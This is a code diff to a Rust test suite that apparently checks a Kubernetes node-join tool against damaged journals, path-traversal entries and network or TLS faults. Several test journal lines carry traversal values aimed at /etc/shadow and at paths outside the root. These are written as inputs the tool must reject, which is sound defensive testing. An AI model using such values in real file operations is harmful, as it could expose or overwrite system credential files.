+            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/../../outside","prior":null}}"#,
+        ),
+        journal_line(
+            "a relative path",
+            72,
+            "not a clean absolute path",
+            r#"{"seq":900,"event":"begin","change":{"kind":"dir","path":"etc/x"}}"#,
+        ),
+        journal_line(
+            "an absolute backup name",
+            72,
+            "not a node-attach backup",
+            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/hosts","prior":{"mode":420,"backup":"/etc/shadow"}}}"#,
+        ),
+        journal_line(
+            "a backup name climbing out",
+            72,
+            "not a node-attach backup",
+            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/hosts","prior":{"mode":420,"backup":"../../../etc/shadow"}}}"#,
+        ),
+        journal_line(
+            "a symlink restored out of the root",
+            72,
+            "not a clean absolute path",
+            r#"{"seq":900,"event":"begin","change":{"kind":"symlink","path":"/../x","prior":"/etc/shadow"}}"#,
+        ),
+        joined_reset(
+            "journal",
+            "a damaged line in the middle",
+            0,
+            "journal is damaged",
+            |ctx| {
+                let path = ctx.node.path(JOURNAL);
+                let text = std::fs::read_to_string(&path).expect("journal");
+                let mut lines: Vec<&str> = text.lines().collect();
+                lines[3] = "{\"seq\": 4, \"event\": \"begi";
+                std::fs::write(&path, lines.join("\n") + "\n").expect("damage");
+            },
+        )
         // Join's own files stay: only the documented Kubernetes paths are cleaned.
-        .tree(Tree::Kept(&["etc/docker/daemon.json", "etc/systemd/system/kubelet.service"])),
-        case("journal", "join over a damaged journal", 70, "damaged", |ctx| {
-            joined_copy(ctx);
-            let path = ctx.node.path(JOURNAL);
-            let text = std::fs::read_to_string(&path).expect("journal");
-            std::fs::write(&path, format!("garbage\n{text}")).expect("damage");
-            scale(ctx, &[])
-        }),
-        joined_reset("journal", "the journal is a symlink out of the root", 72, "journal", |ctx| {
-            let path = ctx.node.path(JOURNAL);
-            std::fs::copy(&path, ctx.outside.join("journal.jsonl")).expect("copy");
-            std::fs::remove_file(&path).expect("rm");
-            std::os::unix::fs::symlink(ctx.outside.join("journal.jsonl"), &path).expect("link");
-        }),
+        .tree(Tree::Kept(&[
+            "etc/docker/daemon.json",
+            "etc/systemd/system/kubelet.service",
+        ])),
+        case(
+            "journal",
+            "join over a damaged journal",
+            70,
+            "damaged",
+            |ctx| {
+                joined_copy(ctx);
+                let path = ctx.node.path(JOURNAL);
+                let text = std::fs::read_to_string(&path).expect("journal");
+                std::fs::write(&path, format!("garbage\n{text}")).expect("damage");
+                scale(ctx, &[])
+            },
+        ),
+        joined_reset(
+            "journal",
+            "the journal is a symlink out of the root",
+            72,
+            "journal",
+            |ctx| {
+                let path = ctx.node.path(JOURNAL);
+                std::fs::copy(&path, ctx.outside.join("journal.jsonl")).expect("copy");
+                std::fs::remove_file(&path).expect("rm");
+                std::os::unix::fs::symlink(ctx.outside.join("journal.jsonl"), &path).expect("link");
+            },
+        ),
         joined_reset("journal", "the journal is a FIFO", 72, "fifo", |ctx| {
             let path = ctx.node.path(JOURNAL);
             std::fs::remove_file(&path).expect("rm");
             mkfifo(&path);
         }),
-        // network faults
-        case("network", "unreachable endpoint", 20, "cannot reach the API server", |ctx| {
-            let mut a = scale_with(ctx, "--endpoint", "127.0.0.1:1");
-            let at = a.iter().position(|x| x == "--discovery-timeout").expect("flag") + 1;
-            a[at] = "2s".into();
-            a
-        }),
-        case("network", "TLS from a foreign CA", 25, "pinned cluster CA", |ctx| {
-            ctx.cp.set_faults(|f| f.foreign_serving_cert = true);
-            scale(ctx, &[])
-        }),
+    ]
+}
+
+/// Networks that fail or lie.
+fn network() -> Vec<Case> {
+    vec![
+        case(
+            "network",
+            "unreachable endpoint",
+            20,
+            "cannot reach the API server",
+            |ctx| {
+                let mut a = scale_with(ctx, "--endpoint", "127.0.0.1:1");
+                let at = a
+                    .iter()
+                    .position(|x| x == "--discovery-timeout")
+                    .expect("flag")
+                    + 1;
+                a[at] = "2s".into();
+                a
+            },
+        ),
+        case(
+            "network",
+            "TLS from a foreign CA",
+            25,
+            "pinned cluster CA",
+            |ctx| {
+                ctx.cp.set_faults(|f| f.foreign_serving_cert = true);
+                scale(ctx, &[])
+            },
+        ),
         // The stand-in counts handshakes from its start: a control plane of its own.
-        case("network", "serving certificate swapped mid-join", 35, "trust.server-changed", |ctx| {
-            ctx.cp.set_faults(|f: &mut Faults| f.foreign_serving_cert_after = Some(2));
-            scale(ctx, &[])
-        })
+        case(
+            "network",
+            "serving certificate swapped mid-join",
+            35,
+            "trust.server-changed",
+            |ctx| {
+                ctx.cp
+                    .set_faults(|f: &mut Faults| f.foreign_serving_cert_after = Some(2));
+                scale(ctx, &[])
+            },
+        )
         .fresh(),
-        case("network", "values service unreachable", 10, "cannot fetch cluster values", |ctx| {
-            let mut a = openapi(ctx, "json", &[]);
-            let at = a.iter().position(|x| x == "--values-url").expect("flag") + 1;
-            a[at] = "https://127.0.0.1:1/v1/values/{token}".into();
-            a
-        }),
-        case("network", "values over TLS from another CA", 10, "cannot fetch cluster values", |ctx| {
-            let mut a = openapi(ctx, "json", &[]);
-            let other = test_control_plane::pki::Ca::new("kubernetes");
-            let ca = write(ctx.scratch, "other-ca.pem", other.cert_pem());
-            let at = a.iter().position(|x| x == "--values-ca-file").expect("flag") + 1;
-            a[at] = ca.display().to_string();
-            a
-        }),
+        case(
+            "network",
+            "values service unreachable",
+            10,
+            "cannot fetch cluster values",
+            |ctx| {
+                let mut a = openapi(ctx, "json", &[]);
+                let at = a.iter().position(|x| x == "--values-url").expect("flag") + 1;
+                a[at] = "https://127.0.0.1:1/v1/values/{token}".into();
+                a
+            },
+        ),
+        case(
+            "network",
+            "values over TLS from another CA",
+            10,
+            "cannot fetch cluster values",
+            |ctx| {
+                let mut a = openapi(ctx, "json", &[]);
+                let other = test_control_plane::pki::Ca::new("kubernetes");
+                let ca = write(ctx.scratch, "other-ca.pem", other.cert_pem());
+                let at = a
+                    .iter()
+                    .position(|x| x == "--values-ca-file")
+                    .expect("flag")
+                    + 1;
+                a[at] = ca.display().to_string();
+                a
+            },
+        ),
         case("network", "values redirected", 10, "redirect", |ctx| {
-            ctx.cp.set_faults(|f| f.values_redirect = Some("https://127.0.0.1:1/elsewhere".into()));
+            ctx.cp
+                .set_faults(|f| f.values_redirect = Some("https://127.0.0.1:1/elsewhere".into()));
             openapi(ctx, "json", &[])
         }),
-        case("network", "values token refused", 11, "refused the openapi token", |ctx| {
-            ctx.cp.set_faults(|f| {
-                f.values_script.push_back(Scripted {
-                    status: 404,
-                    retry_after: None,
-                    body: format!("no such token {OPENAPI}"),
-                })
-            });
-            openapi(ctx, "json", &[])
-        }),
+        case(
+            "network",
+            "values token refused",
+            11,
+            "refused the openapi token",
+            |ctx| {
+                ctx.cp.set_faults(|f| {
+                    f.values_script.push_back(Scripted {
+                        status: 404,
+                        retry_after: None,
+                        body: format!("no such token {OPENAPI}"),
+                    })
+                });
+                openapi(ctx, "json", &[])
+            },
+        ),
     ]
 }
 
